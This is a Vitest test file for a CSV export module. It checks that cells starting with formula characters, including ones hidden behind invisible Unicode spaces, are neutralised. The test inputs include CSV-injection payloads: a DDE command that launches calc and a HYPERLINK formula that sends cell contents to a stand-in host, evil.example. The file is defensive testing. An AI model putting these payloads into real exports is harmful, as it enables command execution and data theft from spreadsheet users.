import { describe, expect, it } from 'vitest';
import { allocationCsv } from '@/lib/api/allocation-csv';
import { csvCell, csvNumber, neutraliseText, toCsv } from '@/lib/api/csv';
import type { PublishedAllocation } from '@/lib/dal/internal/formulas/batch-effects';

describe('CSV writer', () => {
  it('neutralises every text cell a spreadsheet would run as a formula', () => {
    const hostile = ['=1+1', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '  =cmd|\' /C calc\'!A0', '\u3000=1', '=HYPERLINK("http://evil.example/?"&A1,"点击")'];
    for (const v of hostile) {
      const out = csvCell(v);
      // Unquoted, or quoted: either way the cell's text starts with the apostrophe.
      const text = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out;
      expect(text, JSON.stringify(v)).toBe(`'${v}`);
    }
    expect(csvCell('=HYPERLINK("x","y")')).toBe('"\'=HYPERLINK(""x"",""y"")"');
  });

  it('neutralises a formula behind invisible or unusual white space, which a spreadsheet may skip', () => {
    const prefixes = {
      NBSP: '\u00A0',
      BOM: '\uFEFF',
      'zero-width space': '\u200B',
      ZWNJ: '\u200C',
      ZWJ: '\u200D',
      'word joiner': '\u2060',
      'narrow NBSP': '\u202F',
      'en quad … hair space': '\u2000\u200A',
      'medium mathematical space': '\u205F',
      'ogham space': '\u1680',
      'line separator': '\u2028',
      'left-to-right mark': '\u200E',
      'right-to-left override': '\u202E',
      'soft hyphen': '\u00AD',
      'Mongolian vowel separator': '\u180E',
      'Hangul filler': '\u3164',
      'braille blank': '\u2800',
      'vertical tab and form feed': '\u000B\u000C',
      'line feed': '\n',
      mixed: ' \u00A0\uFEFF\u200B\u3000\u2060 ',
    };
    for (const [what, prefix] of Object.entries(prefixes)) {
      for (const start of ['=', '+', '-', '@']) {
        const v = `${prefix}${start}1+1`;
        expect(neutraliseText(v), `${what} before ${start}`).toBe(`'${v}`);
      }
    }
    // The same characters before ordinary text change nothing.
    for (const prefix of Object.values(prefixes)) expect(neutraliseText(`${prefix}盂县`)).toBe(`${prefix}盂县`);
    expect(neutraliseText('\u00A0\u00A0a=1')).toBe('\u00A0\u00A0a=1');
    // Through the cell writer too, quoted where the text needs it.
    expect(csvCell('\uFEFF=cmd|\' /C calc\'!A0')).toBe("'\uFEFF=cmd|' /C calc'!A0");
    expect(csvCell('\u200B=HYPERLINK("x")')).toBe('"\'\u200B=HYPERLINK(""x"")"');
  });

  it('leaves ordinary text alone and quotes separators, quotes and line breaks', () => {
    expect(csvCell('盂县')).toBe('盂县');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(neutraliseText('调整说明')).toBe('调整说明');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('keeps numeric cells numeric, negative ones included, and only real numbers', () => {
    expect(csvCell(-12345n)).toBe('-12345');
    expect(csvCell(csvNumber('-5'))).toBe('-5');
    expect(csvCell(csvNumber('12.50'))).toBe('12.50');
    expect(csvCell(csvNumber(3))).toBe('3');
    // Marked as a number but not one: text, and neutralised.
    expect(csvCell(csvNumber('-1+2'))).toBe("'-1+2");
    expect(csvCell(csvNumber('=1'))).toBe("'=1");
    expect(csvCell(csvNumber('1,000'))).toBe('"1,000"');
    // A text cell holding a negative number is still text: the writer never guesses.
    expect(csvCell('-5')).toBe("'-5");
  });

  it('writes a BOM, CRLF line ends and a final CRLF', () => {
    expect(toCsv([['a', 'b'], [csvNumber('1'), '=x']])).toBe("\uFEFFa,b\r\n1,'=x\r\n");
  });

  it('neutralises names and reasons in an allocation result while amounts stay numbers', () => {
    const c = {
      batch: {},
      formula: { factors: [{ code: 'area' }] },
      recipients: [{ code: '+140321', name: '=HYPERLINK("http://evil.example","x")', values: { area: '-2.5' }, sources: {}, share: '1/2', computedFen: '100', finalFen: '-100', adjustmentReason: '@SUM(1)' }],
      withheld: [{ basisCode: 'OGI-14', basis: '-涉密', basisEn: '', items: 1, amountFen: '200' }],
    } as unknown as PublishedAllocation;
    const lines = allocationCsv(c).replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).toBe('recipient_code,recipient_name,area,share,computed_fen,final_fen,adjustment_reason');
    expect(lines[1]).toBe(`'+140321,"'=HYPERLINK(""http://evil.example"",""x"")",-2.5,1/2,100,-100,'@SUM(1)`);
    expect(lines[2]).toBe("withheld:OGI-14,'-涉密,,,,200,1");
  });
});
